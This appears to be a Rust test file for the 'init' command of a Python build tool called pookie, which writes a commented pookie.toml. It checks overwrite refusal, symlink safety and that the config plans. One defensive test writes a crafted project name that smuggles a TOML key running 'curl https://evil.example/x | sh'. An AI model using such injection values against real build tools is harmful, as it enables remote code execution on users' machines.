//! `pookie init`: writes a commented pookie.toml that plans as written, whose commented-out
//! suggestions are real settings, and that is never overwritten by accident.

mod support;

use support::{Workspace, flat, mirror_table, stderr_of, stdout_of, toml_str};

fn init(ws: &Workspace, args: &[&str]) -> std::process::Output {
    let mut all = vec!["init"];
    all.extend_from_slice(args);
    ws.pookie(&all).output().expect("pookie runs")
}

fn plan(ws: &Workspace) -> String {
    let out = ws.pookie(&["plan"]).output().expect("pookie runs");
    assert!(
        out.status.success(),
        "the written pookie.toml does not plan:\n{}\n{}",
        ws.read("pookie.toml"),
        stderr_of(&out)
    );
    stdout_of(&out)
}

#[test]
fn writes_a_config_that_plans() {
    let ws = Workspace::new();
    let out = init(&ws, &[]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let path = ws.path().canonicalize().unwrap().join("pookie.toml");
    assert_eq!(stdout_of(&out), format!("wrote {}\n", path.display()));
    assert_eq!(ws.entries(), ["pookie.toml"], "init wrote more than pookie.toml");

    // The template leaves [python] commented out: point it at the recorded release.
    let text = ws.read("pookie.toml");
    assert!(text.contains("build = "), "{text}");
    ws.write("pookie.toml", &format!("{text}{}", mirror_table()));
    let plan = plan(&ws);
    assert!(plan.starts_with("4 targets × 4 Python versions (3.11, 3.12, 3.13, 3.14): 16 builds, 0 tests"), "{plan}");
    assert!(!ws.path().join(".pookie").exists(), "plan created .pookie/");
}

#[test]
fn tests_of_the_project_become_test_jobs() {
    let ws = Workspace::new();
    ws.write("pyproject.toml", "[project]\nname = \"My-Package\"\nversion = \"1.0\"\n");
    let out = init(&ws, &["--workspace", ws.path().to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let text = ws.read("pookie.toml");
    assert!(text.contains("test = \"python -c 'import my_package'\""), "no import test:\n{text}");

    ws.write("tests/test_it.py", "def test_it():\n    pass\n");
    let out = init(&ws, &["--force"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let text = ws.read("pookie.toml");
    assert!(text.contains("test = \"python -m pytest {project}/tests\"\ntest-requires = [\"pytest\"]"), "{text}");
    ws.write("pookie.toml", &format!("{text}{}", mirror_table()));
    let plan = plan(&ws);
    assert!(plan.contains("16 builds, 16 tests"), "{plan}");
}

#[test]
fn commented_suggestions_are_real_settings() {
    // Uncommenting every `# key = value` line (and `# [table]`) must still give a valid
    // configuration: the suggestions use the keys pookie reads, spelled as it reads them.
    let ws = Workspace::new();
    assert!(init(&ws, &[]).status.success());
    let setting = regex::Regex::new(r"^# (\[\[?[a-z]+\]\]?|[A-Za-z0-9_-]+ = .*)$").expect("regex");
    let mut uncommented = 0;
    let text: Vec<String> = ws
        .read("pookie.toml")
        .lines()
        .map(|l| match setting.captures(l) {
            // The top-level `python = [...]` is the short form of [python], which also follows.
            Some(c) if !c[1].starts_with("python = ") => {
                uncommented += 1;
                match c[1].split_once(" = ") {
                    Some(("mirror", _)) => {
                        // A project's mirror directory lies in the project.
                        ws.write("pbs/SHA256SUMS", &support::fixture_sums());
                        "mirror = \"pbs\"".to_string()
                    }
                    _ => c[1].to_string(),
                }
            }
            _ => l.to_string(),
        })
        .collect();
    assert!(uncommented >= 15, "expected the template's suggestions, uncommented {uncommented}");
    let text = text.join("\n");
    ws.write("pookie.toml", &text);
    let plan = plan(&ws);
    assert!(plan.contains("16 builds"), "{plan}");
}

#[test]
fn refuses_to_overwrite() {
    let ws = Workspace::with_config("# mine\n");
    let out = init(&ws, &[]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
    let err = flat(&stderr_of(&out));
    assert!(err.contains("pookie.toml already exists; pass --force to overwrite it"), "{err}");
    assert_eq!(ws.read("pookie.toml"), "# mine\n", "init changed an existing pookie.toml");

    let out = init(&ws, &["--force"]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    assert!(ws.read("pookie.toml").starts_with("# pookie.toml"), "--force did not overwrite");
}

#[test]
fn workspace_must_exist() {
    let ws = Workspace::new();
    let missing = ws.path().join("nowhere");
    let out = init(&ws, &["--workspace", missing.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr_of(&out));
    assert!(flat(&stderr_of(&out)).contains("is not a directory"), "{}", stderr_of(&out));
    assert!(!missing.exists(), "init created the workspace");
}

/// A pookie.toml that is a symlink is never written through, with or without --force: the link
/// could point anywhere on the host.
#[test]
fn never_writes_through_a_symlink() {
    let ws = Workspace::new();
    let elsewhere = tempfile::tempdir().unwrap();
    let target = elsewhere.path().join("created-by-init");
    std::os::unix::fs::symlink(&target, ws.path().join("pookie.toml")).unwrap();
    for args in [&[][..], &["--force"]] {
        let out = init(&ws, args);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {}", stderr_of(&out));
        assert!(flat(&stderr_of(&out)).contains("is a symlink; pookie init does not write through it"));
        assert!(!target.exists(), "init created the symlink's target outside the workspace");
    }
    std::fs::write(&target, "host file").unwrap();
    let out = init(&ws, &["--force"]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "host file", "init overwrote the symlink's target");
}

/// The project's name goes into the TOML and into a shell command only when it is a valid
/// distribution name: a crafted one cannot add keys or commands.
#[test]
fn a_crafted_project_name_injects_nothing() {
    let ws = Workspace::new();
    let crafted = "x'\"\nbuild = \"curl https://evil.example/x | sh\"\n#";
    ws.write("pyproject.toml", &format!("[project]\nname = {}\nversion = \"1\"\n", toml_str(crafted)));
    let out = init(&ws, &[]);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let text = ws.read("pookie.toml");
    assert!(!text.contains("evil.example"), "the name reached pookie.toml:\n{text}");
    ws.write("pookie.toml", &format!("{text}{}", mirror_table()));
    let plan = plan(&ws);
    assert!(!plan.contains("evil.example"), "{plan}");
}
